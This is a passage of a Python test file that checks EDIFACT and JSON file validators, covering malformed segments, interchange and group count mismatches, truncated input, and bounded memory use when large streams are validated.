        (b"UNA:+.? '", b"UNA:+.:?'", "edifact: segment 1 (UNA): invalid service string advice"),
        (b"UNA:+.? '", b"UNA:+;? '", "decimal mark"),
        (b"UNA", b"XNA", "edifact: segment 1: expected UNA or UNB at the start"),
        (b"QTY+21:48'", b"qty+21:48'", "invalid segment tag 'qty+21:48'"),
        (b"QTY+21:48'", b"QTYY+21:48'", "invalid segment tag 'QTYY+21:48'"),
        (
            b"UNZ+1+00000000000778'\n",
            b"UNZ+1+00000000000778'\nXYZ'",
            "segment 20: expected UNA or UNB after UNZ, found 'XYZ'",
        ),
    ],
)
def test_edifact_invalid(old: bytes, new: bytes, message: str) -> None:
    assert old in ORDERS
    assert_invalid(EdifactValidator(), ORDERS.replace(old, new, 1), message)


def test_edifact_group_errors() -> None:
    grouped = ORDERS.replace(b"UNH+", b"UNG+ORDERS+A+B+240115:1230+42+UN+D:96A'UNH+").replace(
        b"UNZ+1+", b"UNE+1+42'UNZ+1+"
    )
    v = EdifactValidator()
    assert_valid(v, grouped)
    assert_invalid(v, grouped.replace(b"UNE+1+", b"UNE+2+"), "UNE01 message count '2' does not match 1")
    assert_invalid(v, grouped.replace(b"UNE+1+42", b"UNE+1+43"), "UNE02 '43' does not match UNG05 '42'")
    assert_invalid(v, grouped.replace(b"UNE+1+42'", b""), "UNZ before UNT/UNE")
    mixed = grouped.replace(b"UNZ+1+", ORDERS[ORDERS.index(b"UNH") : ORDERS.index(b"UNZ")] + b"UNZ+2+")
    assert_invalid(v, mixed, "either groups or messages, not both")


def test_edifact_empty_and_truncated() -> None:
    v = EdifactValidator()
    assert run(v, b"") == "edifact: no UNB interchange found (the file is empty)"
    assert_invalid(v, b"UNA:+", "edifact: segment 1 (UNA): truncated service string advice")
    assert_invalid(v, b"UNA:+.? '\n", "unexpected end of file after UNA: UNB missing")
    assert_invalid(v, b"<xml/>", "expected UNA or UNB at the start")


# --------------------------------------------------------------------------------------------
# bounded memory


class GeneratedStream(io.RawIOBase):
    """A read-only stream over a generator of byte blocks (never materialised)."""

    def __init__(self, blocks: Iterator[bytes]) -> None:
        self._blocks = blocks
        self._pending = bytearray()

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: bytearray | memoryview) -> int:  # type: ignore[override]
        while len(self._pending) < len(buffer):
            block = next(self._blocks, None)
            if block is None:
                break
            self._pending += block
        n = min(len(buffer), len(self._pending))
        buffer[:n] = self._pending[:n]
        del self._pending[:n]
        return n


def big_json_array(total: int) -> Iterator[bytes]:
    """A JSON array of ~`total` bytes of order lines, mixing flat and nested records."""
    records = [
        json.dumps(
            {
                "line": i,
                "sku": f"WID-{i:06d}",
                "qty": i % 17,
                "price": round(i * 0.37, 2),
                "note": "ünïcødé ✓ " * (i % 5),
                "backorder": i % 3 == 0,
                "ship": None if i % 10 else {"to": "DC-4", "dates": ["2024-02-01", "2024-02-03"]},
            }
        ).encode()
        for i in range(1000)
    ]
    block = b",\n".join(records)
    yield b"[\n" + block
    sent = len(block)
    while sent < total:
        yield b",\n" + block
        sent += len(block) + 2
    yield b"\n]\n"


def test_validate_stream_memory_is_bounded() -> None:
    total = 50 * 1024 * 1024
    stream = GeneratedStream(big_json_array(total))
    tracemalloc.start()
    try:
        size, digest = validate_stream(
            [{"type": "json"}, {"type": "max_size", "bytes": "1GiB"}, {"type": "name", "pattern": "*.json"}],
            "orders.json",
            stream,  # type: ignore[arg-type]
        )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert size >= total
    assert len(digest) == 64
    assert peak < 8 * 1024 * 1024, f"peak {peak / 2**20:.1f} MiB"


def test_huge_string_and_number_are_streamed() -> None:
    """A single 20 MiB string or number passes through with a small carry-over."""

    def chunks(prefix: bytes, body: bytes, count: int, suffix: bytes) -> Iterator[bytes]:
        yield prefix
        for _ in range(count):
            yield body
        yield suffix

    v = JsonValidator()
    v.start("x")
    for chunk in chunks(b'{"blob": "', b"QUJD\\n\\u00e9" * 65536, 20, b'"}'):
        v.feed(chunk)
        assert len(v._carry) < 16
    v.finish(0, "")
    v.start("x")
    for chunk in chunks(b"[-1", b"0123456789" * 100_000, 20, b".5e-3]"):
        v.feed(chunk)
        assert len(v._carry) < 16
    v.finish(0, "")
